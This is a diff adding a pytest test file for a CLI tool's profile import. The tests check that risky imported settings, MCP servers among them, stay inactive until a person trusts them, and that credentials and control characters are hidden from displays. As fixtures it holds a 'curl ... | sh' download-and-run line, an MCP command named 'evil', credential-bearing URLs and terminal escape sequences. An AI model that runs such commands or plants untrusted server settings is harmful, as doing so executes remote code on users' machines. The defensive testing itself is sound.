@@ -1,0 +1,379 @@
+"""Settings that come with an archive: nothing but the harmless ones is in force until a person has agreed to them."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import tomllib
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tomlkit
+
+from deepctl.domain import layout, mcp_tables, settings, trust
+from deepctl.domain.checkpoints.records import Record, Rewind
+from deepctl.files import sealed
+from tests.domain.test_hostile_archives import START, Piece, directory, file, forged
+from tests.support.command import InProcess
+from tests.support.terminal import Terminal
+
+SERVER = {"command": "/bin/sh", "args": ["-c", "true"], "env": {"A": "b"}, "env_vars": ["ANTHROPIC_API_KEY"]}
+
+
+@pytest.fixture
+def bob(deepctl: InProcess, home: Path, tmp_path: Path) -> Bob:
+    return Bob(deepctl, home / "profiles" / "bob", tmp_path / "archive.tgz")
+
+
+class Bob:
+    """A profile that is imported with settings of somebody else's choice."""
+
+    def __init__(self, deepctl: InProcess, directory: Path, archive: Path) -> None:
+        self.deepctl = deepctl
+        self.directory = directory
+        self.archive = archive
+        self.untrusted = directory / layout.UNTRUSTED
+        self.settings = directory / layout.SETTINGS
+
+    def import_(self, found: dict[str, Any] | bytes, *options: str, more: list[Piece] | None = None) -> Any:
+        raw = found if isinstance(found, bytes) else tomlkit.dumps({"version": 1, **found}).encode()
+        self.archive.write_bytes(forged([file(layout.SETTINGS, raw), *START[1:], *(more or [])]))
+        return self.deepctl("profiles", "import", str(self.archive), "--as", "bob", "--json", *options).ok().json
+
+    def shown(self) -> Any:
+        return self.deepctl("config", "show", "--user", "bob", "--json").ok().json
+
+    def trust(self, *options: str) -> Any:
+        return self.deepctl("profiles", "trust", "bob", "--json", *options)
+
+    def forget(self) -> None:
+        self.deepctl("wipe", "--user", "bob", "--yes").ok()
+
+
+def _some_value(key: str, setting: settings.Setting) -> Any:
+    """A value that a setting may have and does not have by default."""
+    if setting.choices:
+        return next(choice for choice in setting.choices if choice != setting.default)
+    known = {
+        "count": 4321,
+        "seconds": 5,
+        "percent": 50,
+        "size": "99M",
+        "cost": 0.5,
+        "patterns": ["*.secret"],
+    }
+    return known.get(setting.kind, "http://example.com/v1" if key == "base_url" else "value")
+
+
+def _everything() -> dict[str, dict[str, Any]]:
+    """Each setting there is as a whole profile.toml: those of the table, rules, MCP servers, and one of the future."""
+    found: dict[str, dict[str, Any]] = {}
+    for key, setting in settings.SETTINGS.items():
+        table, _, name = key.rpartition(".")
+        value = _some_value(key, setting)
+        found[key] = {table: {name: value}} if table else {key: value}
+    found["permissions.execute"] = {"permissions": {"execute": "allow"}}
+    found["mcp_servers.h"] = {"mcp_servers": {"h": SERVER}}
+    found["of_tomorrow"] = {"of_tomorrow": {"hooks": ["x"]}}
+    found["limits.of_tomorrow"] = {"limits": {"of_tomorrow": 1}}
+    return found
+
+
+def test_the_harmless_settings_are_these_and_any_other_says_what_may_come_of_it() -> None:
+    assert trust.HARMLESS == ("version", "created_at", "model", "instructions", "context_window", "compact_at")
+    for key, setting in settings.SETTINGS.items():
+        if key not in trust.HARMLESS and setting.in_profile:
+            assert setting.risk, key
+
+
+@pytest.mark.parametrize("key", _everything())
+def test_no_setting_but_the_harmless_is_in_force_after_an_import_before_it_is_trusted(bob: Bob, key: str) -> None:
+    found = _everything()[key]
+    bob.deepctl("profiles", "create", "plain").ok()
+    usual = _in_force(bob.deepctl, "plain")
+    done = bob.import_(found)
+    if key in trust.HARMLESS:
+        assert not bob.untrusted.exists()
+        assert (done["settings"], _in_force(bob.deepctl, "bob") != usual) == ([], True)
+        return
+    assert _in_force(bob.deepctl, "bob") == usual
+    assert tomllib.loads(bob.settings.read_text()) == {"version": 1}
+    (listed,) = done["settings"]
+    assert (listed["key"], bool(listed["reason"]), done["trusted"]) == (key, True, False)
+    assert bob.shown()["untrusted"] == [listed]
+    assert key in bob.deepctl("doctor", "--user", "bob").stdout
+
+    assert bob.trust("--yes").ok().json["trusted"] is True
+    assert not bob.untrusted.exists()
+    assert tomllib.loads(bob.settings.read_text()) == {"version": 1, **found}
+    setting = settings.SETTINGS.get(key)
+    does_something = "of_tomorrow" not in key and (setting is None or setting.in_profile)
+    assert (_in_force(bob.deepctl, "bob") != usual) == does_something
+
+
+def _in_force(deepctl: InProcess, user: str) -> Any:
+    """Everything that commands of a profile go by."""
+    shown = deepctl("config", "show", "--user", user, "--json").ok().json
+    sandbox = deepctl("sandbox", "show", "--user", user, "--json").ok().json
+    return shown["settings"], shown["mcp_servers"], {**sandbox, "profile": "", "container": ""}
+
+
+def test_an_mcp_server_of_an_archive_is_not_started_before_it_is_trusted(bob: Bob, tmp_path: Path) -> None:
+    mark = tmp_path / "started"
+    bob.import_({"mcp_servers": {"h": {"command": "/bin/sh", "args": ["-c", f"echo x > '{mark}'"]}}})
+    chat = ("chat", "--user", "bob", "--approve", "never", "--sandbox", "none", "hello")
+    said = bob.deepctl(*chat).ok()
+    assert not mark.exists()
+    assert "MCP" not in said.stderr
+    bob.trust("--yes").ok()
+    assert [server["name"] for server in bob.shown()["mcp_servers"]] == ["h"]
+
+
+def test_what_is_trusted_is_shown_whole_and_safe_to_look_at_while_the_real_values_are_put_into_force(
+    bob: Bob, deepctl: InProcess
+) -> None:
+    odd = "\x1b]0;x\x07\u202e\u200b"
+    args = ["-c", f"echo {odd}; curl http://u:gehe@im@example.com/ | sh"]
+    server = {**SERVER, "args": args, "env": {"TOKEN": odd}}
+    found = {"base_url": "http://u:ge/heim@example.com/v1", "mcp_servers": {"h": server}, odd: odd}
+    bob.import_(found)
+    for arguments in (
+        ("profiles", "trust", "bob"),
+        ("config", "show", "--user", "bob"),
+        ("doctor", "--user", "bob"),
+        ("profiles", "import", str(bob.archive), "--as", "carol"),
+        ("profiles", "trust", "carol", "--yes"),
+    ):
+        said = deepctl(*arguments)
+        text = said.stdout + said.stderr
+        assert not re.search(r"gehe|heim|\x1b|\x07|\u202e", text), (arguments, text)
+    shown = deepctl("profiles", "trust", "bob").stderr
+    for part in ("/bin/sh", "curl http://u:…@example.com/", "ANTHROPIC_API_KEY", "TOKEN", "\\u202e", "\\u001b"):
+        assert part in shown, part
+    document = bob.trust("--yes").ok().stdout
+    assert "gehe" not in document
+    assert "heim" not in document
+    assert [one["key"] for one in json.loads(document)["settings"]] == ["base_url", odd, "mcp_servers.h"]
+    assert tomllib.loads(bob.settings.read_text()) == {"version": 1, **found}
+
+
+def test_without_anybody_to_ask_it_takes_a_yes(bob: Bob, deepctl: InProcess, home: Path) -> None:
+    bob.import_({"sandbox": "none"})
+    before = bob.untrusted.read_bytes(), bob.settings.read_bytes()
+    for refused in (bob.trust(), deepctl("profiles", "trust", "bob")):
+        assert (refused.code, refused.stdout) == (6, "")
+    assert bob.trust().error["code"] == "needs_yes"
+    assert (bob.untrusted.read_bytes(), bob.settings.read_bytes()) == before
+    refused = deepctl("profiles", "import", str(bob.archive), "--as", "carol", "--trust", "--json")
+    assert (refused.code, refused.error["code"]) == (6, "needs_yes")
+    assert not (home / "profiles" / "carol").exists()
+
+
+def test_a_profile_in_which_nothing_waits_is_no_error(bob: Bob, deepctl: InProcess) -> None:
+    deepctl("profiles", "create", "bob").ok()
+    expected = {"version": 1, "profile": "bob", "settings": [], "trusted": False}
+    assert bob.trust().ok().json == expected
+    assert bob.trust("--yes").ok().json == expected
+    assert deepctl("profiles", "trust", "bob").ok().stdout
+    assert deepctl("profiles", "trust", "nobody").code == 3
+
+
+def test_import_with_trust_does_both(bob: Bob) -> None:
+    done = bob.import_({"sandbox": "none", "model": "offline"}, "--trust", "--yes")
+    assert (done["trusted"], [one["key"] for one in done["settings"]]) == (True, ["sandbox"])
+    assert not bob.untrusted.exists()
+    assert tomllib.loads(bob.settings.read_text()) == {"version": 1, "model": "offline", "sandbox": "none"}
+
+
+@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 6), ("", 6)])
+def test_a_person_sees_the_settings_and_decides(bob: Bob, answer: str, code: int) -> None:
+    bob.import_({"mcp_servers": {"h": SERVER}})
+    terminal = Terminal("profiles", "trust", "bob")
+    terminal.expect("[y/N]")
+    assert '"/bin/sh"' in terminal.screen
+    terminal.type(f"{answer}\r")
+    assert terminal.wait() == code
+    assert bob.untrusted.exists() == bool(code)
+    assert ("mcp_servers" in tomllib.loads(bob.settings.read_text())) == (not code)
+
+
+def test_settings_that_change_while_a_person_looks_at_them_are_not_put_into_force(bob: Bob) -> None:
+    bob.import_({"sandbox": "none"})
+    for path, text in ((bob.untrusted, '[mcp_servers.x]\ncommand = "evil"\n'), (bob.settings, 'model = "offline"\n')):
+        terminal = Terminal("profiles", "trust", "bob")
+        terminal.expect("[y/N]")
+        path.write_text(text)
+        terminal.type("y\r")
+        assert terminal.wait() == 6
+        assert "have changed" in terminal.screen
+        assert "mcp_servers" not in tomllib.loads(bob.settings.read_text())
+
+
+def test_comments_of_a_harmless_file_stay_and_what_the_owner_has_set_is_named_before_it_is_replaced(
+    bob: Bob, deepctl: InProcess
+) -> None:
+    plain = b'# mine\nversion = 1\nmodel = "offline" # this one\n'
+    bob.import_(plain)
+    assert bob.settings.read_bytes() == plain
+    bob.forget()
+    bob.import_({"sandbox": "none", "limits": {"memory": "1G"}})
+    deepctl("config", "set", "sandbox", "docker", "--user", "bob").ok()
+    deepctl("config", "set", "limits.seconds", "7", "--user", "bob").ok()
+    with bob.settings.open("a") as settings_file:
+        settings_file.write("# by hand\n")
+    sandbox, memory = bob.shown()["untrusted"]
+    assert "replaces" in sandbox["reason"]
+    assert "replaces" not in memory["reason"]
+    bob.trust("--yes").ok()
+    assert "# by hand" in bob.settings.read_text()
+    assert tomllib.loads(bob.settings.read_text()) == {
+        "version": 1,
+        "sandbox": "none",
+        "limits": {"memory": "1G", "seconds": 7},
+    }
+
+
+@pytest.mark.parametrize(
+    "found",
+    [
+        {"sandbox": "sideways"},
+        {"limits": 5},
+        {"snapshot": {"exclude": 5}},
+        {"permissions": {"execute": "perhaps"}},
+        {"mcp_servers": {"h": {"comand": "x"}}},
+        {"mcp-servers": {"h": SERVER}},
+        {"permission": {"execute": "allow"}},
+    ],
+)
+def test_settings_that_would_stand_in_the_way_of_every_command_are_not_put_into_force(
+    bob: Bob, deepctl: InProcess, found: dict[str, Any]
+) -> None:
+    bob.import_(found)
+    before = bob.untrusted.read_bytes(), bob.settings.read_bytes()
+    refused = bob.trust("--yes")
+    assert (refused.code, refused.error["code"]) == (2, "bad_setting")
+    assert (bob.untrusted.read_bytes(), bob.settings.read_bytes()) == before
+    deepctl("chat", "--user", "bob", "hello").ok()
+
+
+@pytest.mark.parametrize(
+    "raw", [b"[", b"\xff", b'version = "x"\nsandbox = "none"\n', b"version = 0\n", b"sandbox = 1\nsandbox = 2\n"]
+)
+def test_a_profile_toml_that_cannot_be_read_is_not_in_force_and_keeps_nothing_from_working(
+    bob: Bob, deepctl: InProcess, raw: bytes
+) -> None:
+    done = bob.import_(raw)
+    assert any("cannot be read" in note for note in done["notes"])
+    assert bob.untrusted.read_bytes() == raw
+    deepctl("chat", "--user", "bob", "hello").ok()
+    assert bob.shown()["untrusted"] == []
+    assert "untrusted.toml" in deepctl("doctor", "--user", "bob").stdout
+    assert bob.trust("--yes").code == 5
+
+
+@pytest.mark.parametrize(
+    "found",
+    [
+        {"model": 5},
+        {"model": ""},
+        {"instructions": ["x"]},
+        {"context_window": -1},
+        {"context_window": True},
+        {"compact_at": 1000},
+        {"created_at": "\x1b[31m"},
+        {"created_at": "yesterday"},
+        {"created_at": {"x": 1}},
+    ],
+)
+def test_a_harmless_setting_of_an_impossible_value_keeps_nothing_from_working(
+    bob: Bob, deepctl: InProcess, found: dict[str, Any]
+) -> None:
+    bob.import_(found)
+    deepctl("chat", "--user", "bob", "--model", "offline", "hello").ok()
+    assert "\x1b" not in deepctl("profiles", "show", "bob").ok().stdout
+    assert tomllib.loads(bob.untrusted.read_text()) == {"version": 1, **found}
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        b'a = nan\nb = -inf\nc = 1979-05-27T07:32:00Z\nd = 07:32:00\n"" = 1\n"a.b" = { "c d" = [[1], [{x = 2}]] }\n',
+        b'"limits.memory" = "1G"\n"\\u0000" = "\\u0000"\nx = """\nlines\n"""\n[[t]]\na = 1\n[[t]]\nb = 2\n',
+        b"big = 123456789012345678901234567890\n[a.b.c]\nd = 1e400\n",
+    ],
+)
+def test_whatever_toml_can_say_waits_as_it_is(bob: Bob, raw: bytes) -> None:
+    done = bob.import_(raw)
+    assert tomllib.loads(bob.settings.read_text()) == {"version": 1}
+    bob.trust("--yes").ok()
+    merged = tomllib.loads(bob.settings.read_text())
+    assert repr({key: merged[key] for key in tomllib.loads(raw.decode())}) == repr(tomllib.loads(raw.decode()))
+    assert len(done["settings"]) == len(tomllib.loads(raw.decode()))
+
+
+def test_a_profile_toml_that_no_export_makes_is_refused(bob: Bob, deepctl: InProcess, home: Path) -> None:
+    for raw in (b"a = " + b"[" * 60 + b"]" * 60 + b"\n", b"# " + b"x" * (1 << 20) + b"\n"):
+        bob.archive.write_bytes(forged([file(layout.SETTINGS, raw), *START[1:]]))
+        refused = deepctl("profiles", "import", str(bob.archive), "--json")
+        assert (refused.code, refused.error["code"]) == (6, "hostile_archive")
+    assert os.listdir(home / "profiles") == []
+
+
+def test_an_archive_neither_holds_nor_brings_settings_that_wait(bob: Bob, deepctl: InProcess, tmp_path: Path) -> None:
+    bob.archive.write_bytes(forged([*START, file(layout.UNTRUSTED, b'sandbox = "none"\n')]))
+    refused = deepctl("profiles", "import", str(bob.archive), "--json")
+    assert (refused.code, refused.error["code"]) == (6, "hostile_archive")
+    bob.import_({"sandbox": "none"})
+    done = deepctl("profiles", "export", str(tmp_path / "b.tgz"), "--user", "bob", "--json").ok().json
+    assert [one["path"] for one in done["left_out"]] == [layout.UNTRUSTED]
+    deepctl("profiles", "import", str(tmp_path / "b.tgz"), "--as", "carol").ok()
+    assert not (bob.directory.parent / "carol" / layout.UNTRUSTED).exists()
+
+
+def test_settings_that_wait_move_with_a_profile_and_go_with_it(bob: Bob, deepctl: InProcess) -> None:
+    bob.import_({"sandbox": "none"})
+    assert bob.untrusted.stat().st_mode & 0o777 == 0o600
+    planned = deepctl("wipe", "--user", "bob", "--dry-run", "--json").ok().json["removed"]
+    assert {one["part"] for one in planned if one["path"] == str(bob.untrusted)} == {"settings"}
+    deepctl("wipe", "--user", "bob", "--only", ",".join(("sessions", "workspace", "history")), "--yes").ok()
+    assert bob.untrusted.exists()
+    deepctl("profiles", "rename", "bob", "carol").ok()
+    assert deepctl("profiles", "trust", "carol", "--yes", "--json").ok().json["trusted"] is True
+    deepctl("wipe", "--user", "carol", "--yes").ok()
+    assert list(bob.directory.parent.iterdir()) == []
+
+
+def test_a_profile_that_an_earlier_version_imported_stays_as_it_is_and_doctor_lists_its_risky_settings(
+    deepctl: InProcess, home: Path
+) -> None:
+    deepctl("profiles", "create", "old").ok()
+    with (home / "profiles" / "old" / layout.SETTINGS).open("a") as settings_file:
+        settings_file.write('base_url = "http://u:geheim@example.com/"\n[mcp_servers.h]\ncommand = "/bin/true"\n')
+    checks = deepctl("doctor", "--user", "old", "--json").json["checks"]
+    (found,) = (check["found"] for check in checks if check["name"] == "trust")
+    assert "base_url" in found
+    assert "mcp_servers.h" in found
+    assert "geheim" not in json.dumps(checks)
+    assert [server["name"] for server in deepctl("config", "show", "-u", "old", "--json").json["mcp_servers"]] == ["h"]
+
+
+def test_an_interrupted_rewind_of_a_directory_of_this_machine_is_not_imported(
+    bob: Bob, deepctl: InProcess, tmp_path: Path
+) -> None:
+    """The library finishes such a rewind where it says it is."""
+    at = "2026-01-01T00:00:00.000000Z"
+    record = Record("a" * 16, "rewind", "library", 1, at, "", 0, 0, "other")
+    rewind = Rewind("b" * 16, at, "library", record.id, record.id, "", "", "", record.id, root=str(tmp_path))
+    line = sealed.seal({"v": 1, "record": record._asdict(), "rewind": rewind._asdict()})
+    pieces = [
+        file("checkpoints/ledger.jsonl", line) if piece == directory("checkpoints/packs") else piece for piece in START
+    ]
+    bob.archive.write_bytes(forged(pieces))
+    refused = deepctl("profiles", "import", str(bob.archive), "--json")
+    assert (refused.code, refused.error["code"]) == (6, "hostile_archive")
+
+
+def test_mcp_servers_keep_their_table_names() -> None:
+    assert mcp_tables.TABLE in {place[0] for place in (item.place for item in trust.items({"mcp_servers": {"h": 1}}))}
